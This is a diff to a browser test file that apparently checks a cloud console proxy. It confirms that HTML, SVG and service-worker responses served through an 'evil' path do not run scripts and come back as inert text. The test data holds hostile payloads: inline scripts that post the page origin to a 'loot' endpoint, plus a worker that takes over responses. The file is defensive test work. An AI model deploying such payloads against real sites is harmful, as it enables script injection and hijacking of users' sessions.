@@ -8,9 +8,9 @@ import * as steps from "./steps.mjs";
 import { visitor } from "./visitor.mjs";
 
 // Says in the page that it ran, and to its cloud who it is there.
-const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/loot", { method: "POST", body: self.origin, headers: { "x-ecs-password-console": "1" } });`;
+const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/os-keypairs/loot-of-" + self.origin.replace(/\\W/g, "-"), { headers: { "x-ecs-password-console": "1" } });`;
 const WORKER = `${SCRIPT} self.addEventListener("fetch", (event) => event.respondWith(new Response("taken over", { headers: { "content-type": "text/html" } })));`;
-const BASE = "/proxy/evil/compute/v2.1";
+const BASE = "/proxy/evil/compute/v2.1/os-keypairs";
 const ANSWERS = {
   "page.html": ["text/html", `<!doctype html><title>evil</title><script>${SCRIPT}</script><script src="${BASE}/run.js"></script><h1>evil</h1>`],
   "page.svg": ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script href="${BASE}/run.js"/><script>${SCRIPT}</script></svg>`],
@@ -77,7 +77,7 @@ describe("opened by a link", () => {
         const answer = await page.goto(`${plain}${BASE}/${name}`);
         assert.equal(answer.status(), 200);
         assert.equal(await answer.text(), ANSWERS[name][1]);
-        assert.deepEqual(asked(), [`/v2.1/${name}`], "none of its scripts is asked for");
+        assert.deepEqual(asked(), [`/v2.1/os-keypairs/${name}`], "none of its scripts is asked for");
         const shown = await page.evaluate(() => ({ ran: globalThis.ran, origin: globalThis.origin, type: document.contentType, text: document.body.innerText }));
         assert.deepEqual(shown, { ran: undefined, origin: "null", type: "text/plain", text: ANSWERS[name][1] });
       }));
